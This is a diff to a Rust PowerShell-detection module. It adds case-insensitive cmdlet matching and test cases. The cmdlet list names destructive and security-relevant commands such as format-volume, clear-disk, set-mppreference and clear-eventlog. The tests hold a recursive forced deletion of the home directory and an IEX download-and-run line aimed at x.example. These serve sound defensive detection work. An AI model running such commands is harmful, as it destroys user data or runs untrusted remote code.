@@ -99,23 +99,80 @@ fn powershell_line_start(text: &str) -> bool {
         let b = line.as_bytes();
         let word = b.iter().take_while(|c| c.is_ascii_alphabetic()).count();
         let after = line[word..].trim_start_matches(BLANKS);
+        let noun_len = b.get(word + 1..).map_or(0, |n| {
+            n.iter().take_while(|c| c.is_ascii_alphabetic()).count()
+        });
+        // `Verb-Noun` (all ASCII up to here when the byte after the verb is `-`).
+        let cmdlet = if b.get(word) == Some(&b'-') {
+            &line[..word + 1 + noun_len]
+        } else {
+            ""
+        };
         matches!(b.first(), Some(b'$' | b'[' | b'(' | b'&'))
             || (word > 0
                 && b.get(word) == Some(&b'-')
-                && b.get(word + 1).is_some_and(u8::is_ascii_uppercase))
+                && (b.get(word + 1).is_some_and(u8::is_ascii_uppercase)
+                    || COMMON_CMDLETS
+                        .iter()
+                        .any(|c| c.eq_ignore_ascii_case(cmdlet))))
             || (matches!(&line[..word], "if" | "foreach" | "while" | "switch")
                 && after.starts_with('('))
-            || ["iex", "irm", "iwr"].iter().any(|p| line.starts_with(p))
+            || (word == 3
+                && ["iex", "irm", "iwr"]
+                    .iter()
+                    .any(|p| p.eq_ignore_ascii_case(&line[..3])))
             || (matches!(&line[..word], "ri" | "del" | "erase" | "rd" | "rmdir")
                 && after.starts_with('-'))
     })
 }
 
+/// Cmdlets recognised in any case (PowerShell ignores case: `REMOVE-ITEM`, `remove-item`).
+/// Other `Verb-Noun` words count only with the noun capitalised, so that `add-apt-repository`
+/// or `update-alternatives` stay shell commands.
+const COMMON_CMDLETS: &[&str] = &[
+    "remove-item",
+    "get-childitem",
+    "get-content",
+    "set-content",
+    "add-content",
+    "invoke-expression",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "invoke-command",
+    "new-object",
+    "start-process",
+    "copy-item",
+    "move-item",
+    "new-item",
+    "set-itemproperty",
+    "new-itemproperty",
+    "remove-itemproperty",
+    "set-mppreference",
+    "add-mppreference",
+    "stop-computer",
+    "restart-computer",
+    "format-volume",
+    "clear-disk",
+    "initialize-disk",
+    "remove-partition",
+    "start-bitstransfer",
+    "set-executionpolicy",
+    "stop-service",
+    "set-service",
+    "set-acl",
+    "clear-eventlog",
+    "register-scheduledtask",
+    "stop-process",
+    "compress-archive",
+    "expand-archive",
+];
+
 /// The PowerShell pattern itself.
 fn powershell_re(text: &str) -> bool {
     static RE: std::sync::OnceLock<LazyRegex> = std::sync::OnceLock::new();
     RE.get_or_init(|| {
-        LazyRegex::new(r#"(?m)^\s*(\$[A-Za-z_]\w*(:\w+)?\s*[+-]?=\s|\$env:\w+\s*[+-]?=|\[(int|string|bool|array|hashtable|switch|double|datetime)\]\$|\((Get|Set|New|Test|Select|Join|Split|Resolve|Convert\w*)-[A-Z]\w+[^)]*\)|\(git\s[^)]*\)\.\w+|\[[A-Za-z][\w.]*\]::|&\s*["'$]|&\s+\S+\.(exe|ps1|cmd|bat)\b|(Get|Set|New|Remove|Add|Invoke|Start|Stop|Test|Write|Import|Export|Select|Where|ForEach|Out|Copy|Move|Clear|Enable|Disable|Install|Uninstall|Update|Register|Unregister|Expand|Compress|Resolve|Join|Split|ConvertTo|ConvertFrom|Measure|Sort|Format|Read|Wait|Push|Pop)-[A-Z][A-Za-z]+\b|(if|foreach|while|switch)\s*\([^(]|(iex|irm|iwr|Invoke-Expression)\b|(ri|del|erase|rd|rmdir)\s+(\S+\s+)*-(?i:r|recurse|fo|force)\b|\$PSVersionTable\b|\$ErrorActionPreference\b)"#, false)
+        let any_case = format!(r"(?m)^\s*(?i:{}|iex|irm|iwr)\b", COMMON_CMDLETS.join("|"));
+        LazyRegex::new(&format!(r#"{any_case}|(?m)^\s*(\$[A-Za-z_]\w*(:\w+)?\s*[+-]?=\s|\$env:\w+\s*[+-]?=|\[(int|string|bool|array|hashtable|switch|double|datetime)\]\$|\((Get|Set|New|Test|Select|Join|Split|Resolve|Convert\w*)-[A-Z]\w+[^)]*\)|\(git\s[^)]*\)\.\w+|\[[A-Za-z][\w.]*\]::|&\s*["'$]|&\s+\S+\.(exe|ps1|cmd|bat)\b|(Get|Set|New|Remove|Add|Invoke|Start|Stop|Test|Write|Import|Export|Select|Where|ForEach|Out|Copy|Move|Clear|Enable|Disable|Install|Uninstall|Update|Register|Unregister|Expand|Compress|Resolve|Join|Split|ConvertTo|ConvertFrom|Measure|Sort|Format|Read|Wait|Push|Pop)-[A-Z][A-Za-z]+\b|(if|foreach|while|switch)\s*\([^(]|(iex|irm|iwr|Invoke-Expression)\b|(ri|del|erase|rd|rmdir)\s+(\S+\s+)*-(?i:r|recurse|fo|force)\b|\$PSVersionTable\b|\$ErrorActionPreference\b)"#), false)
             .expect("static regex")
     })
     .is_match(text)
@@ -173,6 +230,11 @@ const CMD_STATEMENT_PROGRAMS: &[&str] = &[
     "erase",
     "cmd",
 ];
+
+/// A Windows program (lower-case name without `.exe`) whose name Windows matches in any case.
+pub(crate) fn is_windows_program(name: &str) -> bool {
+    matches!(name, "powershell" | "pwsh") || CMD_STATEMENT_PROGRAMS.contains(&name)
+}
 
 /// A necessary condition of [`cmd_re`], cheap enough to keep the pattern uncompiled for
 /// ordinary shell input: a `%`, `X:\`, `$env:`, `.exe`/`.bat`/`.cmd`, `@echo`, `switch`, a
@@ -242,6 +304,9 @@ mod tests {
             "(Get-Content f.txt) -replace 'a','b' | Set-Content f.txt",
             "[int]$n = 5",
             "ri -r -fo ~",
+            "REMOVE-ITEM -Recurse -Force $HOME",
+            "remove-item -recurse -force ~",
+            "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
             "del -Recurse -Force .\\out",
         ] {
             assert!(looks_like_powershell(ps), "{ps}");
@@ -255,6 +320,10 @@ mod tests {
             "git commit -m 'Get-ChildItem support'",
             "ri Array#map",
             "rmdir empty-dir",
+            "add-apt-repository ppa:deadsnakes/ppa",
+            "update-alternatives --config java",
+            "cat > README.ja.md <<'EOF'\n# プロジェクト\nインストール方法：`npm install`\nEOF",
+            "é-x",
         ] {
             assert!(!looks_like_powershell(sh), "{sh}");
         }
